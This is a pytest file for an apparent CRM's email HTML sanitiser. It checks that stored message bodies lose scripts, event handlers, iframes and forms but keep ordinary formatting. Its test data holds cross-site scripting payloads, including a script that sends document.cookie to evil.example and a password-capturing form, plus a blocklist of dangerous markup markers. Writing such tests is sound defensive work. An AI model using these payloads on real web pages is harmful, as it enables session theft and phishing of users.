"""Email bodies are sanitised when stored (issue 16; graph/rules/html.py): what comes back
can be shown as HTML. Through the API, on every backend.
"""

from __future__ import annotations

import pytest

from graph.rules.html import sanitise_html
from tests.support.client import Api

HOSTILE = ('<p onclick="steal()">Hello <b>Chris</b>,<br>see <a href="javascript:alert(1)">this</a>'
           ' and <a href="https://example.com/offer" onmouseover="x()">our offer</a>.</p>'
           '<script>document.location = "https://evil.example/?" + document.cookie</script>'
           '<style>body { display: none }</style>'
           '<img src="x" onerror="alert(1)"><img src="https://img.example.com/logo.png" alt="Logo">'
           '<iframe src="https://evil.example"></iframe><div style="position:fixed; color: red; background: url(https://evil.example/t.gif)">covered</div>'
           '<svg><script>alert(2)</script></svg><form action="https://evil.example"><input name="pw"></form>')
FORMATTING = ('<p>Dear <i>Ana</i>,</p><p>Thanks<br>for <strong>the call</strong>.</p>'
              '<ul><li>one</li><li>two</li></ul><ol><li>first</li></ol>'
              '<table border="1"><thead><tr><th>Item</th></tr></thead><tbody><tr><td colspan="2">Shoes</td></tr>'
              '</tbody></table><blockquote>You wrote: hello</blockquote>'
              '<a href="mailto:ana@example.com">mail me</a> <img src="https://img.example.com/a.png" alt="a">')
DANGEROUS = ("<script", "onerror", "onclick", "onmouseover", "javascript:", "<style", "<iframe", "position",
             "url(", "<form", "<input", "document.cookie", "alert(")


def assert_safe(html: str) -> None:
    lowered = html.lower()
    assert not [d for d in DANGEROUS if d in lowered], html


def test_sanitising_drops_what_runs_and_keeps_what_formats() -> None:
    clean = sanitise_html(HOSTILE)
    assert_safe(clean)
    assert "Hello <b>Chris</b>,<br>" in clean
    assert '<a href="https://example.com/offer" rel="noopener noreferrer">our offer</a>' in clean
    assert '<img src="https://img.example.com/logo.png" alt="Logo">' in clean
    assert '<div style="color:red">covered</div>' in clean  # text styling stays, layout and URLs go
    kept = sanitise_html(FORMATTING)
    for piece in ("<i>Ana</i>", "<br>", "<strong>the call</strong>", "<ul><li>one</li>", "<ol><li>first</li></ol>",
                  '<td colspan="2">Shoes</td>', "<th>Item</th>", "<blockquote>You wrote: hello</blockquote>",
                  'href="mailto:ana@example.com"', '<img src="https://img.example.com/a.png" alt="a">'):
        assert piece in kept, (piece, kept)


@pytest.mark.parametrize("src", ["javascript:alert(1)", "data:image/svg+xml;base64,PHN2Zz4=", "mailto:a@b.c",
                                 "//evil.example/x.png", "x"])
def test_images_keep_only_web_addresses_and_inline_parts(src: str) -> None:
    assert "src=" not in sanitise_html(f'<img src="{src}" alt="a">')
    assert 'src="cid:logo@example"' in sanitise_html('<img src="cid:logo@example">')


async def test_a_tracked_email_with_script_and_onerror_comes_back_clean(api: Api) -> None:
    values = {"messageId": "<hostile@example.com>", "subject": "Offer", "bodyHtml": HOSTILE,
              "from": "customer@example.com"}
    payload = await api.ok("trackEmail", values, "email { id bodyHtml }", as_="sales1")
    stored = payload["email"]["bodyHtml"]
    assert_safe(stored)
    assert "Hello <b>Chris</b>" in stored and 'href="https://example.com/offer"' in stored
    # Read back later, from the database, it is the same clean body.
    node = await api('query($id: ID!) { node(id: $id) { ... on Email { bodyHtml } } }',
                     {"id": payload["email"]["id"]}, as_="sales1")
    assert node["node"]["bodyHtml"] == stored


async def test_ordinary_mail_formatting_is_kept_when_sending(api: Api) -> None:
    payload = await api.ok("sendEmail", {"subject": "Follow-up", "bodyHtml": FORMATTING,
                                         "to": [{"address": "ana@example.com"}]}, "email { bodyHtml }")
    stored = payload["email"]["bodyHtml"]
    assert_safe(stored)
    for piece in ("<i>Ana</i>", "<strong>the call</strong>", "<li>two</li>", '<td colspan="2">Shoes</td>',
                  "<blockquote>", 'href="mailto:ana@example.com"', 'src="https://img.example.com/a.png"'):
        assert piece in stored, (piece, stored)
